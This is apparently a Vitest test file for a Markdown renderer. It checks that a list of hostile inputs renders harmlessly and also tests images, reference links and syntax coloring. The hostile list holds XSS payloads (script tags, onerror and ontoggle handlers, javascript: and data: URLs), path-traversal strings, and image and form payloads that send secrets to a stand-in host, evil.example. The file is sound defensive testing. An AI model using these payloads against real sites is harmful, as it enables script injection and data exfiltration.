// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { blocksOf, coloredCode } from "../src/markdown/markdown";

/** What a text becomes in the page. */
function page(text: string): HTMLElement {
  const root = document.createElement("div");
  for (const block of blocksOf(text)) {
    const element = document.createElement("div");
    if (block.kind === "html") element.innerHTML = block.html as string;
    else element.textContent = block.code;
    root.append(element);
  }
  return root;
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><g onload=alert(1)></g></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "[x](/api/revoke)",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/leak.png?secret)",
  "![x](//evil.example/leak.png)",
  "![x](/artifacts/p/../../api/feed)",
  "![x](/artifacts/p/%2e%2E/.%2e/api/feed)",
  "[x](/artifacts/../api/feed)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
  "```html\n<script>alert(1)</script>\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "<style>body{display:none}</style>",
  '<form action="https://evil.example"><input name=token></form>',
  "<base href='https://evil.example/'>",
  "<a href='#' class='primary' id='search'>Approve</a>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "- <details open ontoggle=alert(1)>",
];

describe("hostile Markdown", () => {
  it.each(HOSTILE)("can do nothing: %s", (text) => {
    const root = page(text);
    expect(root.querySelector("script, iframe, svg, form, input, style, base, math, details, object")).toBeNull();
    for (const element of root.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/);
        expect(["id", "style", "name", "srcdoc", "action"]).not.toContain(name);
        if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:|\/artifacts\/)/i);
        if (name === "src" || value.startsWith("/")) {
          expect(new URL(value, "http://127.0.0.1").pathname).toMatch(/^\/artifacts\//);
        }
        if (name === "class") expect(value).toMatch(/hljs/);
      }
    }
  });

  it("is shown as the text that it is", () => {
    expect(page("a <b>bold</b> move").textContent).toContain("a <b>bold</b> move");
  });

  it("loads no picture from elsewhere", () => {
    const root = page("![chart](https://evil.example/x.png)");
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelector("a")?.getAttribute("rel")).toBe("noopener noreferrer");
  });
});

describe("Markdown", () => {
  it("shows an artifact's picture", () => {
    const image = page("![chart](/artifacts/garden-1234/chart.png)").querySelector("img");
    expect(image?.getAttribute("src")).toBe("/artifacts/garden-1234/chart.png");
    expect(image?.getAttribute("alt")).toBe("chart");
  });

  it("keeps the blocks of a text that grows", () => {
    const before = blocksOf("one\n\ntwo\n\nthr");
    const after = blocksOf("one\n\ntwo\n\nthree", before);
    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
    expect(after[2]).not.toBe(before[2]);
  });

  it("knows links that are named below", () => {
    const link = page("[docs]\n\n[docs]: https://docs.example").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://docs.example");
  });

  it("colors the languages it knows and leaves the others alone", () => {
    expect(String(coloredCode("x = 1", "python"))).toContain("hljs-number");
    expect(coloredCode("x = 1", "klingon")).toBeNull();
    expect(coloredCode("x".repeat(60_000), "python")).toBeNull();
  });
});
